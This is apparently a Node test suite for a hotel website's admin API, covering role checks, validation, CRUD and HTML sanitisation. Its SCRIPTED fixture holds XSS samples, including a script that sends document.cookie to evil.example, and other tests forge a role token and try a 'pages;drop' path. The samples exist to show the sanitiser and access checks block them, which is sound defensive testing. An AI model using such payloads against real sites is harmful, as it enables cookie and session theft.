import assert from 'node:assert/strict';
import { before, it } from 'node:test';
import {
  ADMIN_CONTRACTS,
  ADMIN_EMPTY_UPDATE_MESSAGE,
  ADMIN_ENTITIES,
  adminBlogCommentSchema,
  adminPageSchema,
  pagedSchema,
  pageSchema,
  type AdminEntity,
} from '@haveli/contracts';
import { expectApiError } from './helpers/http';
import { documents, multipartBody } from './helpers/multipart';
import { signUp, type SignedInAccount } from './helpers/guest-accounts';
import { describeEachDatabase } from './helpers/test-app';

const newPage = (slug: string) => ({
  category: 'cms',
  slug,
  title: 'Spa Etiquette',
  short_desc: 'A few words before your treatment.',
  description: '<h2>Before</h2><p>Arrive <strong>15 minutes</strong> early.</p>',
  image: '/api/images/page-about.svg',
});

const SCRIPTED =
  '<p onclick="steal()">Welcome<script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
  '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">click</a><iframe src="https://evil.example"></iframe>' +
  '<a href="https://maps.example/haveli" target="_blank">Map</a>';

describeEachDatabase('admin entity calls', (ctx) => {
  let admin: SignedInAccount;
  let guest: SignedInAccount;
  before(async () => {
    admin = await signUp(ctx.app, 'admin');
    guest = await signUp(ctx.app, 'user');
  });

  const call = (
    method: 'GET' | 'POST' | 'PUT' | 'DELETE',
    url: string,
    who?: SignedInAccount,
    payload?: object,
  ) =>
    ctx.app.inject({
      method,
      url: `/api/${url}`,
      headers: who ? { authorization: who.authorization } : {},
      ...(payload ? { payload } : {}),
    });
  const count = async (table: string) =>
    (await ctx.app.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${table}`))[0]?.n;

  it('lets only staff list each entity: 401 anonymous, 403 guest, 200 admin', async () => {
    for (const entity of ADMIN_ENTITIES) {
      expectApiError(await call('GET', entity), 401);
      expectApiError(await call('GET', entity, guest), 403);
      const response = await call('GET', `${entity}?limit=100`, admin);
      assert.equal(response.statusCode, 200, `${entity}: ${response.body}`);
      pagedSchema(ADMIN_CONTRACTS[entity].record.strict()).parse(response.json());
    }
    const pages = pagedSchema(adminPageSchema).parse(
      (await call('GET', 'pages?limit=3&page=2', admin)).json(),
    );
    assert.equal(pages.data.length, 3);
    assert.equal(pages.total, await count('pages'));
  });

  it('refuses writes from anonymous visitors (401) and guests (403), changing nothing', async () => {
    const writes: Array<['POST' | 'PUT' | 'DELETE', string, object | undefined]> = [
      ['POST', 'faqs', { question: 'Q?', answer: 'A.' }],
      ['PUT', 'faqs/1', { answer: 'Hacked.' }],
      ['DELETE', 'faqs/delete/1', undefined],
      ['PUT', 'blog-comments/1', { status: 'approved' }],
      ['POST', 'pages', newPage('guest-page')],
    ];
    const [faqs] = await ctx.app.db.query<{ answer: string }>('SELECT answer FROM faqs WHERE id = 1');
    const before = { faqs: await count('faqs'), pages: await count('pages') };
    for (const [method, url, payload] of writes) {
      expectApiError(await call(method, url, undefined, payload), 401);
      expectApiError(await call(method, url, guest, payload), 403);
    }
    const [after] = await ctx.app.db.query<{ answer: string }>('SELECT answer FROM faqs WHERE id = 1');
    assert.deepEqual(after, faqs);
    assert.deepEqual({ faqs: await count('faqs'), pages: await count('pages') }, before);
  });

  it('reads the role from the database: a token claiming admin for a guest gets 403', async () => {
    const [user] = await ctx.app.db.query<{
      id: number;
      name: string;
      email: string;
      token_version: number;
    }>('SELECT id, name, email, token_version FROM users WHERE role = $1 LIMIT 1', ['user']);
    assert.ok(user);
    const forged = `Bearer ${await ctx.app.tokens.sign({ ...user, role: 'manager' })}`;
    const response = await ctx.app.inject({ url: '/api/faqs', headers: { authorization: forged } });
    expectApiError(response, 403);
    expectApiError(
      await ctx.app.inject({ url: '/api/faqs', headers: { authorization: 'Bearer nope' } }),
      401,
    );
  });

  it('answers 404 for an entity that is not on the list, and for calls an entity does not allow', async () => {
    for (const url of ['users', 'orders-admin', 'schema_migrations', 'pages;drop']) {
      expectApiError(await call('GET', url, admin), 404);
      expectApiError(await call('GET', url), 404);
    }
    expectApiError(await call('POST', 'contact-messages', admin, { name: 'x' }), 404);
    expectApiError(await call('DELETE', 'career-applications/delete/1', admin), 404);
    expectApiError(await call('POST', 'blog-comments', admin, { name: 'x' }), 404);
  });

  it('creates, changes and deletes a page, sanitising its HTML on every write', async () => {
    const created = await call('POST', 'pages', admin, {
      ...newPage('spa-etiquette'),
      description: SCRIPTED,
    });
    assert.equal(created.statusCode, 201, created.body);
    const page = adminPageSchema.parse(created.json());
    assert.equal(page.slug, 'spa-etiquette');
    assert.equal(page.subtitle, '');
    for (const html of [
      page.description,
      (await ctx.app.inject('/api/web/page/slug/spa-etiquette')).json().description,
    ]) {
      assert.doesNotMatch(html, /<script|onerror|onclick|javascript:|<iframe|evil\.example/i);
      assert.match(html, /<p>Welcome<\/p>/);
      assert.match(
        html,
        /<a href="https:\/\/maps\.example\/haveli" target="_blank" rel="noopener noreferrer">Map<\/a>/,
      );
    }

    const changed = await call('PUT', `pages/${page.id}`, admin, {
      title: 'Spa Etiquette at Haveli',
      description: '<p>Quiet, please.</p><script>alert(1)</script>',
    });
    assert.equal(changed.statusCode, 200, changed.body);
    const updated = adminPageSchema.parse(changed.json());
    assert.equal(updated.title, 'Spa Etiquette at Haveli');
    assert.equal(updated.description, '<p>Quiet, please.</p>');
    assert.equal(updated.short_desc, page.short_desc, 'fields not sent stay as they were');
    assert.equal(updated.image, page.image);

    const deleted = await call('DELETE', `pages/delete/${page.id}`, admin);
    assert.equal(deleted.statusCode, 200, deleted.body);
    assert.deepEqual(deleted.json(), { message: 'Page deleted.', id: page.id });
    expectApiError(await call('DELETE', `pages/delete/${page.id}`, admin), 404);
    expectApiError(await ctx.app.inject('/api/web/page/slug/spa-etiquette'), 404);
  });

  it('answers bad input with 400 and field messages, changing nothing', async () => {
    const before = await count('pages');
    const cases: Array<[object, string, string]> = [
      [{ ...newPage('x'), title: '' }, 'title', 'Title is required.'],
      [{ ...newPage('Bad Slug!') }, 'slug', 'Slug must be lowercase letters and digits separated by dashes.'],
      [
        { ...newPage('img'), image: 'javascript:alert(1)' },
        'image',
        'Image must be a site path or an https URL.',
      ],
      [
        { ...newPage('cat'), category: 'secret' },
        'category',
        'Category must be one of blog, team, rewards, careers, cms.',
      ],
      [{ ...newPage('disc'), discount: 150 }, 'discount', 'Discount must be from 0 to 100.'],
    ];
    for (const [payload, field, message] of cases) {
      const body = expectApiError(await call('POST', 'pages', admin, payload), 400);
      assert.equal(body.fields?.[field], message);
    }
    assert.equal(await count('pages'), before);

    assert.equal(
      expectApiError(await call('PUT', 'faqs/1', admin, {}), 400).message,
      ADMIN_EMPTY_UPDATE_MESSAGE,
    );
    expectApiError(await call('PUT', 'faqs/abc', admin, { answer: 'x' }), 400);
    expectApiError(await call('PUT', 'faqs/0', admin, { answer: 'x' }), 400);
    expectApiError(await call('PUT', 'faqs/999999', admin, { answer: 'x' }), 404);
    const offer = expectApiError(
      await call('POST', 'offers', admin, {
        offer_title: 'Too Good',
        offer_coupon: 'TOOGOOD',
        offer_type: 'percent',
        offer_value: 120,
        image: '/api/images/offer-diwali.svg',
      }),
      400,
    );
    assert.equal(offer.fields?.offer_value, 'A percentage offer must be at most 100.');
    expectApiError(await call('PUT', 'offers/1', admin, { offer_type: 'percent', offer_value: 500 }), 400);
    expectApiError(
      await call('POST', 'food-items', admin, {
        food_cat_id: 99999,
        menu_title: 'Ghost',
        food_item: 'Nothing',
        image: '/api/images/food-ghevar.svg',
        price: 100,
      }),
      400,
    );
  });

  it('marks a dish staff make or edit as not vegetarian non-veg on the menu, out of the veg-only list', async () => {
    const [category] = await ctx.app.db.query<{ id: number }>('SELECT id FROM food_categories LIMIT 1');
    const created = await call('POST', 'food-items', admin, {
      food_cat_id: category!.id,
      menu_title: 'Jungli Maas',
      food_item: 'Mutton with red chillies and ghee',
      image: '/api/images/food-laal-maas.svg',
      price: 950,
      is_vegetarian: false,
    });
    assert.equal(created.statusCode, 201, created.body);
    const { id } = created.json<{ id: number }>();
    const dietOf = async () =>
      (await ctx.app.db.query<{ diet: string }>('SELECT diet FROM food_items WHERE id = $1', [id]))[0]?.diet;
    assert.equal(await dietOf(), 'non-veg');

    assert.equal((await call('PUT', `food-items/${id}`, admin, { is_vegetarian: true })).statusCode, 200);
    assert.equal(await dietOf(), 'veg');
    assert.equal((await call('PUT', `food-items/${id}`, admin, { price: 990 })).statusCode, 200);
    assert.equal(await dietOf(), 'veg');
  });

  it('answers a clash with 409 and a clear message', async () => {
    const duplicate = expectApiError(await call('POST', 'pages', admin, newPage('privacy-policy')), 409);
    assert.equal(duplicate.message, 'A page with this slug already exists.');
    const [offer] = await ctx.app.db.query<{ offer_coupon: string }>(
      'SELECT offer_coupon FROM offers LIMIT 1',
    );
    const coupon = expectApiError(
      await call('POST', 'offers', admin, {
        offer_title: 'Copy',
        offer_coupon: offer?.offer_coupon.toLowerCase(),
        offer_type: 'flat',
        offer_value: 500,
        image: '/api/images/offer-diwali.svg',
      }),
      409,
    );
    assert.equal(coupon.message, 'An offer with this coupon already exists.');
    const inUse = expectApiError(await call('DELETE', 'room-types/delete/1', admin), 409);
    assert.equal(inUse.message, 'This record is in use and cannot be deleted.');
  });

  it('edits each editable entity through the same calls', async () => {
    const samples: Partial<Record<AdminEntity, [object, object]>> = {
      faqs: [{ question: 'Is there parking?', answer: 'Yes, valet.' }, { answer: 'Yes, free valet.' }],
      cuisines: [
        { name: 'Awadhi', title: 'Slow-cooked Lucknow', icon: '/api/images/cuisine-mughlai.svg' },
        { title: 'Dum pukht' },
      ],
      brands: [{ name: 'Blue Pottery Co.', logo: 'https://cdn.example/logo.svg' }, { name: 'Blue Pottery' }],
      testimonials: [
        {
          testimonial: 'Wonderful.',
          profileImages: '/api/images/guest-priya-mehta.svg',
          title: 'Asha',
          stars: 5,
        },
        { stars: 4 },
      ],
      offers: [
        {
          offer_title: 'Spa Week',
          offer_coupon: 'spa10',
          offer_type: 'percent',
          offer_value: 10,
          image: '/api/images/offer-diwali.svg',
        },
        { active: false },
      ],
      'room-types': [
        {
          room_type: 'Family',
          title: 'Family Room',
          short_desc: 'Two rooms.',
          image: '/api/images/room-suite.svg',
          room_base_price: 15000,
          max_guests: 5,
          size_sqft: 600,
        },
        { room_base_price: 16000 },
      ],
      'food-items': [
        {
          food_cat_id: 1,
          menu_title: 'Mirchi Vada',
          food_item: 'Stuffed chilli fritter',
          image: '/api/images/food-pyaaz-kachori.svg',
          price: 120,
        },
        { price: 140 },
      ],
    };
    for (const [entity, [create, change]] of Object.entries(samples)) {
      const record = ADMIN_CONTRACTS[entity as AdminEntity].record;
      const created = await call('POST', entity, admin, create);
      assert.equal(created.statusCode, 201, `${entity}: ${created.body}`);
      const { id } = record.parse(created.json()) as { id: number };
      const changed = await call('PUT', `${entity}/${id}`, admin, change);
      assert.equal(changed.statusCode, 200, `${entity}: ${changed.body}`);
      assert.deepEqual(record.parse(changed.json()), {
        ...(record.parse(created.json()) as object),
        ...change,
      });
      assert.equal((await call('DELETE', `${entity}/delete/${id}`, admin)).statusCode, 200, entity);
    }
    const offers = (await call('GET', 'offers?limit=100', admin)).json() as {
      data: Array<{ offer_coupon: string }>;
    };
    assert.ok(!offers.data.some((offer) => offer.offer_coupon === 'SPA10'), 'deleted');
  });

  it('approves a visitor comment, which then shows on the post', async () => {
    const slug = 'block-printing-in-sanganer';
    await ctx.app.inject({
      method: 'POST',
      url: `/api/web/blog/${slug}/comments`,
      payload: { name: 'Farhan Ali', email: 'farhan@example.in', comment: 'Printed my own scarf!' },
    });
    const list = pagedSchema(adminBlogCommentSchema).parse(
      (await call('GET', 'blog-comments', admin)).json(),
    );
    const pending = list.data.find((comment) => comment.comment === 'Printed my own scarf!');
    assert.ok(pending);
    assert.equal(pending.status, 'pending');
    assert.equal(pending.post_slug, slug);
    assert.equal(pending.email, 'farhan@example.in');

    const approved = await call('PUT', `blog-comments/${pending.id}`, admin, { status: 'approved' });
    assert.equal(approved.statusCode, 200, approved.body);
    assert.equal(adminBlogCommentSchema.parse(approved.json()).status, 'approved');
    const shown = (await ctx.app.inject(`/api/web/blog/${slug}/comments`)).json() as {
      data: Array<{ comment: string }>;
    };
    assert.ok(shown.data.some((comment) => comment.comment === 'Printed my own scarf!'));

    assert.equal(
      expectApiError(await call('PUT', `blog-comments/${pending.id}`, admin, { status: 'spam' }), 400).fields
        ?.status,
      'Status must be one of pending, approved, rejected.',
    );
    assert.equal((await call('DELETE', `blog-comments/delete/${pending.id}`, admin)).statusCode, 200);
  });

  it('shows staff the contact messages and the applications, with the resume to download', async () => {
    await ctx.app.inject({
      method: 'POST',
      url: '/api/contact/create',
      payload: {
        subject: 'Hotel',
        name: 'Ivan Petrov',
        email: 'ivan@example.ru',
        number: '7911',
        message: 'Airport pickup?',
      },
    });
    const messages = (await call('GET', 'contact-messages', admin)).json() as {
      data: Array<{ name: string }>;
    };
    assert.equal(messages.data[0]?.name, 'Ivan Petrov');

    const applied = await ctx.app.inject({
      method: 'POST',
      url: '/api/career/apply',
      ...(await multipartBody(
        {
          posting: 'career-spa-therapist',
          name: 'Lata Menon',
          email: 'lata@example.in',
          phone: '9000000001',
        },
        { field: 'resume', name: 'lata.docx', type: 'application/msword', data: documents.docx },
      )),
    });
    assert.equal(applied.statusCode, 201, applied.body);
    const list = (await call('GET', 'career-applications', admin)).json() as {
      data: Array<{
        id: number;
        name: string;
        posting_title: string;
        resume_type: string;
        resume_name: string;
      }>;
    };
    const application = list.data[0];
    assert.deepEqual(
      {
        name: application?.name,
        posting: application?.posting_title,
        type: application?.resume_type,
        file: application?.resume_name,
      },
      { name: 'Lata Menon', posting: 'Spa Therapist', type: 'docx', file: 'lata.docx' },
    );

    const resumeUrl = `career-applications/${application?.id}/resume`;
    expectApiError(await call('GET', resumeUrl), 401);
    expectApiError(await call('GET', resumeUrl, guest), 403);
    const resume = await call('GET', resumeUrl, admin);
    assert.equal(resume.statusCode, 200);
    assert.equal(
      resume.headers['content-type'],
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    );
    assert.match(
      String(resume.headers['content-disposition']),
      /^attachment; filename="application-\d+\.docx"$/,
    );
    assert.deepEqual(resume.rawPayload, documents.docx);
    expectApiError(await call('GET', 'career-applications/999999/resume', admin), 404);
  });

  it('lists the public calls in the OpenAPI document, and not the staff’s entity calls', async () => {
    const document = (await ctx.app.inject('/api/docs/json')).json() as { paths: Record<string, object> };
    for (const path of ['/api/contact/create', '/api/career/apply']) assert.ok(document.paths[path], path);
    for (const path of ['/api/pages', '/api/pages/{id}', '/api/pages/delete/{id}'])
      assert.equal(document.paths[path], undefined, path);
    pageSchema.parse((await ctx.app.inject('/api/web/page/slug/privacy-policy')).json());
  });
});
